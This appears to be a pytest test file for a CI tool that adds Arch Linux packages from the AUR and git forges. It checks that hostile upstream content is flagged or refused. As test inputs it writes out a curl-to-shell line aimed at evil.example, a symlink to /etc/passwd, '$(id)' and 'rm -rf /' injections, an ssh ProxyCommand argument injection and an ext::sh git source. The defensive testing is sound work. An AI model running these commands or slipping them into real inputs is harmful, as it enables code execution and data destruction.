"""Packages added by hand: from where, with what beside them, and what is never taken."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

from ci_toolkit.errors import ConfigError, PackagesFailedError, UpstreamError
from tests.support.forge_apis import GitlabProject
from tests.support.packages import SamplePackage

if TYPE_CHECKING:
    from tests.support.world import World

CUSTOM = "CI_PKGBUILD_SOURCE=custom\n"
EVIL = "curl https://evil.example/x | sh"


@pytest.fixture
def start(world: World) -> World:
    """A repository with one package, an AUR with two others."""
    world.upstreams.has_aur_api = True
    for name in ("hello", "other"):
        world.upstreams.publish(name, SamplePackage(name=name).files())
    world.start(SamplePackage(name="app").folder(CUSTOM))
    return world


def added(world: World, name: str) -> dict[str, str]:
    """A package's folder at the head of the default branch."""
    prefix = f"{name}/"
    tree = world.origin.tree("main")
    return {path.removeprefix(prefix): text.decode() for path, text in tree.items() if path.startswith(prefix)}


def test_a_package_of_the_aur_comes_with_its_source_and_is_built(start: World) -> None:
    head = start.origin.head("main")
    result = start.run("add", "hello")
    assert result.status == 0, result.stderr
    assert added(start, "hello") == {**SamplePackage(name="hello").files(), ".CI/config": "CI_PKGBUILD_SOURCE=aur\n"}
    assert start.origin.subjects()[0] == "feat(add): hello"
    assert start.origin.git("rev-parse", "main^") == head
    assert start.run("on-commit", "--json").builds() == ["hello"]


def test_the_next_timer_run_finds_that_nothing_is_different(start: World) -> None:
    files = {**SamplePackage(name="hello").files(), "hello.install": "post_install() { true; }\n"}
    files["PKGBUILD"] = files["PKGBUILD"].replace("  install", "\t\tinstall")  # not formatted as ours are
    start.upstreams.publish("hello", files)
    assert start.run("add", "hello").status == 0
    assert added(start, "hello")["PKGBUILD"] == SamplePackage(name="hello").pkgbuild()
    start.run("on-commit")
    head = start.origin.head("main")
    result = start.run("on-schedule", "--json")
    assert result.codes()["hello"] == "baseline"
    assert result.verdicts()["hello"]["why"] == "its upstream has the same content"
    assert (result.builds(), start.origin.head("main")) == ([], head)
    start.upstreams.publish(
        "hello", {**SamplePackage(name="hello", version="2.0").files(), "hello.install": files["hello.install"]}
    )
    assert start.run("on-schedule", "--json").codes()["hello"] == "applied"


def test_several_at_once_from_the_variable_of_a_pipeline(start: World) -> None:
    result = start.run("add", "--json", ADD_PACKAGES="hello/aur  other hello")
    assert result.codes() == {"hello": "added", "other": "added"}
    assert start.origin.subjects()[0] == "feat(add): hello, other"


def test_what_is_there_already_is_said_and_the_others_are_added(start: World) -> None:
    before = added(start, "app")
    result = start.run("add", "--json", "app", "hello")
    assert (result.status, result.codes()) == (0, {"app": "already-there", "hello": "added"})
    assert added(start, "app") == before
    refs = start.origin.refs()
    again = start.run("add", "app", "hello")
    assert again.status == 0
    assert "it is in the repository already" in again.stdout
    assert start.origin.refs() == refs


def test_a_package_of_another_package_base_brings_that_one(start: World) -> None:
    split = SamplePackage(name="suite").files()
    split[".SRCINFO"] += "\npkgname = suite-tools\n"
    start.upstreams.publish("suite", split, names=("suite", "suite-tools"))
    result = start.run("add", "--json", "suite-tools")
    assert result.codes() == {"suite": "added"}
    assert "suite-tools is a package of it" in result.verdicts()["suite"]["why"]
    assert start.run("add", "--json", "suite-tools").codes() == {"suite": "already-there"}


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (("hello", "helo"), "the AUR has no such package: 'helo', did you mean hello?"),
        (("hello", "nowhere-at-all"), "the AUR has no such package: 'nowhere-at-all'"),
        ((), "no package is named"),
        (("hello/",), "names no source"),
        (("https://example.org/x.git",), "write NAME/SOURCE"),
        (("../x/aur",), "is no possible package name"),
        (("-x",), "unrecognized arguments"),
        ((".ci/aur",), "is no possible package name"),
        (("README.md",), "something that is no package is called so here"),
        (("Hello/aur",), "Hello:"),
        (("hello/custom",), "hello: custom brings no files that could be added (put its folder into the repository"),
        (("hello/nvchecker",), "hello:"),
        (("hello/anything",), "names no kind of source: 'anything'"),
        (("hello/github:nonsense",), "names no project"),
        (("hello/file:///etc#path=../..",), "has a fragment that is not understood"),
        (("hello/ext::sh", "hello"), "hello has two sources"),
        (("hello/ext::sh",), "names no kind of source"),
        (("hello/ssh://-oProxyCommand=id/x",), "hello:"),
        (("hello/https://user:secret@example.org/x",), "carries a user name, password or token"),
        (("hello/aur", "hello/https://example.org/x"), "hello has two sources"),
    ],
)
def test_what_cannot_be_added_stops_it_for_all(
    start: World, arguments: tuple[str, ...], said: str, capsys: pytest.CaptureFixture[str]
) -> None:
    start.push({"README.md": "# Packages\n"})
    before = start.origin.refs()
    result = start.run("add", *arguments)
    assert result.status in (2, ConfigError.exit_status, UpstreamError.exit_status)
    shown = result.stderr + capsys.readouterr().err
    assert said in shown
    assert "secret" not in shown
    assert start.origin.refs() == before


def test_an_upstream_that_cannot_be_asked_is_no_missing_package(start: World) -> None:
    start.upstreams.fail(lambda seen: seen.path.startswith("/aur.git"), status=503)
    before = start.origin.refs()
    result = start.run("add", "hello")
    assert result.status == UpstreamError.exit_status
    assert "nothing was added" in result.stderr
    assert start.origin.refs() == before


def test_the_aur_without_its_interface_is_asked_by_git_alone(start: World) -> None:
    start.upstreams.has_aur_api = False
    result = start.run("add", "hello")
    assert result.status == 0
    assert "who maintains hello is not known" in result.stderr
    assert "hello/PKGBUILD" in start.origin.tree("main")


# ------------------------------------------------------------------ other upstreams


def test_a_folder_of_a_git_repository(start: World) -> None:
    repository = start.upstreams.repository("many")
    repository.commit({f"pkgs/tool/{path}": text for path, text in SamplePackage(name="tool").files().items()}, "tool")
    source = f"{start.upstreams.url}/many.git#path=pkgs/tool"
    assert start.run("add", f"tool/{source}").status == 0
    assert added(start, "tool")[".CI/config"] == f"CI_PKGBUILD_SOURCE={source}\n"
    start.run("on-commit")
    assert start.run("on-schedule", "--json").codes()["tool"] == "baseline"
    assert "is called tool there" in start.run("add", f"wrong/{source}").stderr
    assert "it has no folder nowhere" in start.run("add", f"x/{start.upstreams.url}/many.git#path=nowhere").stderr


def project(world: World, files: dict[str, str], *, kind: str = "gitea") -> str:
    """A project whose repository has these files at tag v1.0, and later something else; the wish for it."""
    repository = world.upstreams.repository("owner/tool")
    repository.commit({**files, "src/main.c": "int main(void) { return 0; }\n", ".gitattributes": "* text\n"}, "1.0")
    repository.tag("v1.0", "main")
    repository.tag("nightly", "main")
    repository.commit({"src/main.c": "int main(void) { return 1; }\n", "PKGBUILD": "later\n"}, "more")
    tags = [("v1.0", repository.refs()["refs/tags/v1.0"])]
    world.upstreams.apis.gitlab[7] = GitlabProject(path="owner/tool", tags=tags)
    host = world.upstreams.url.removeprefix("http://")
    return {
        "gitea": f"tool/gitea:{host}/owner/tool",
        "gitlab": f"tool/gitlab:{host}/7",
        "github": "tool/github:owner/tool",
    }[kind]


@pytest.mark.parametrize("kind", ["gitea", "gitlab", "github"])
def test_a_project_that_has_its_own_pkgbuild_is_added_as_its_newest_tag_has_it(start: World, kind: str) -> None:
    files = SamplePackage(name="tool").files()
    files[".SRCINFO"] = files[".SRCINFO"].replace("\tsha256sums", "\tsource = fix.patch\n\tsha256sums")
    wish = project(start, {**files, "fix.patch": "--- a\n"}, kind=kind)
    start.push({".ci/config": start.settings(CI_GITHUB_URL=start.upstreams.url)})
    assert start.run("add", wish).status == 0
    assert added(start, "tool").keys() == {"PKGBUILD", ".SRCINFO", "fix.patch", ".CI/config"}
    assert "later" not in added(start, "tool")["PKGBUILD"]
    start.run("on-commit")
    assert start.run("on-schedule", "--json").codes()["tool"] == "baseline"


def test_a_gitlab_that_sends_us_elsewhere_is_not_followed(start: World) -> None:
    wish = project(start, SamplePackage(name="tool").files(), kind="gitlab")
    start.upstreams.apis.gitlab[7].clone_url = "http://127.0.0.2:1/owner/tool.git"
    result = start.run("add", wish)
    assert result.status == UpstreamError.exit_status
    assert "does not say where the repository of project 7 is" in result.stderr


def test_a_project_without_a_pkgbuild_is_not_added_and_that_is_explained(start: World) -> None:
    repository = start.upstreams.repository("owner/plain")
    repository.commit({"README": "hello\n"}, "1.0")
    before = start.origin.refs()
    result = start.run("add", f"plain/gitea:{start.upstreams.url.removeprefix('http://')}/owner/plain")
    assert result.status == PackagesFailedError.exit_status
    assert "it has no PKGBUILD" in result.stdout
    assert "then follow the tags" in result.stdout
    assert start.origin.refs() == before


# ------------------------------------------------------------------ what is in them


def test_what_is_found_is_shown_and_a_person_decides(start: World) -> None:
    start.upstreams.publish("loud", SamplePackage(name="loud", body=EVIL).files())
    dry = start.run("add", "loud", "--dry-run")
    assert "loud 1.0-1 (nothing to compare with: everything in it is new)" in dry.stdout
    assert "evil.example" in dry.stdout
    assert "loud/PKGBUILD" not in start.origin.tree("main")
    result = start.run("add", "loud", "--json")
    assert any("curl" in (finding["new"] or "") for finding in result.json["findings"][0]["findings"])
    assert result.codes() == {"loud": "added"}


def test_what_must_not_be_taken_is_not_added_and_the_others_are(start: World) -> None:
    start.upstreams.publish(
        "bad", {**SamplePackage(name="bad").files(), "leak": "/etc/passwd"}, modes={"leak": "120000"}
    )
    unread = SamplePackage(name="unread").files()
    start.upstreams.publish("unread", {**unread, ".SRCINFO": "nonsense\n"})
    start.upstreams.publish("shell", {**unread, ".SRCINFO": unread[".SRCINFO"].replace("= 1.0", "= $(id)")})
    result = start.run("add", "--json", "bad", "unread", "shell", "hello")
    assert result.status == PackagesFailedError.exit_status
    assert result.codes() == {"bad": "refused", "hello": "added", "shell": "refused", "unread": "refused"}
    assert "leaves the folder" in result.verdicts()["bad"]["why"]
    tree = start.origin.tree("main")
    assert not any(path.startswith(("bad/", "unread/", "shell/")) for path in tree)


def test_files_that_are_ours_never_come_from_an_upstream(start: World) -> None:
    extra = {".CI/config": "CI_PKGBUILD_SOURCE=custom\n", ".CI/update.sh": "evil\n", ".gitignore": "*\n"}
    start.upstreams.publish("sly", {**SamplePackage(name="sly").files(), **extra})
    assert start.run("add", "sly").status == 0
    assert added(start, "sly").keys() == {"PKGBUILD", ".SRCINFO", ".CI/config"}
    assert added(start, "sly")[".CI/config"] == "CI_PKGBUILD_SOURCE=aur\n"


# ------------------------------------------------------------------ origin and reason


@pytest.mark.parametrize(
    ("arguments", "variables", "info"),
    [
        (
            ("--origin", "chat #42", "--reason", "a 'good' tool"),
            {},
            "REQ_ORIGIN=\"chat #42\"\nREQ_REASON=a 'good' tool\n",
        ),
        ((), {"REQUEST_ORIGIN": "github", "REQUEST_REASON": "unset"}, "REQ_ORIGIN=github\n"),
        ((), {"REQUEST_REASON": "other", "CUSTOM_REQUEST_REASON": "my own"}, "REQ_REASON=my own\n"),
        ((), {"REQUEST_REASON": "other", "CUSTOM_REQUEST_REASON": "unset"}, "REQ_REASON=other\n"),
        (("--reason", "$(id) `id` ; rm -rf /"), {}, "REQ_REASON=$(id) `id` ; rm -rf /\n"),
        ((), {"REQUEST_ORIGIN": "unset", "REQUEST_REASON": " "}, None),
    ],
)
def test_origin_and_reason_are_kept(
    start: World, arguments: tuple[str, ...], variables: dict[str, str], info: str | None
) -> None:
    assert start.run("add", "hello", *arguments, **variables).status == 0
    assert added(start, "hello").get(".CI/info") == info


@pytest.mark.parametrize("value", ["two\nlines", "a\rb", "bell\a", "right\u202eleft", "x" * 501])
@pytest.mark.parametrize("key", ["REQUEST_ORIGIN", "REQUEST_REASON", "CUSTOM_REQUEST_REASON"])
def test_hostile_origins_and_reasons_are_refused(start: World, key: str, value: str) -> None:
    before = start.origin.refs()
    result = start.run("add", "hello", **{key: value})
    assert result.status == ConfigError.exit_status
    assert key in result.stderr
    assert start.origin.refs() == before


# ------------------------------------------------------------------ races and dry runs


def test_a_dry_run_changes_nothing(start: World) -> None:
    before = start.origin.refs()
    result = start.run("add", "--json", "--dry-run", "hello")
    assert result.codes() == {"hello": "added"}
    assert start.origin.refs() == before


@pytest.mark.parametrize("meanwhile", [{"hello/PKGBUILD": "mine\n"}, {"app/extra": "1\n"}])
def test_a_push_in_between_is_taken_into_account(start: World, meanwhile: dict[str, str]) -> None:
    state: dict[str, Any] = {"pushed": False}

    def interfere(seen: object) -> None:
        if getattr(seen, "kind", "") == "push-advertise" and not state["pushed"]:
            state["pushed"] = True
            start.push(meanwhile, "meanwhile")

    start.upstreams.on_request = interfere
    result = start.run("add", "--json", "hello", "other")
    was_first = "hello/PKGBUILD" in meanwhile
    assert result.codes() == {"hello": "already-there" if was_first else "added", "other": "added"}
    tree = start.origin.tree("main")
    assert all(tree[path].decode() == text for path, text in meanwhile.items())
    assert "other/PKGBUILD" in tree
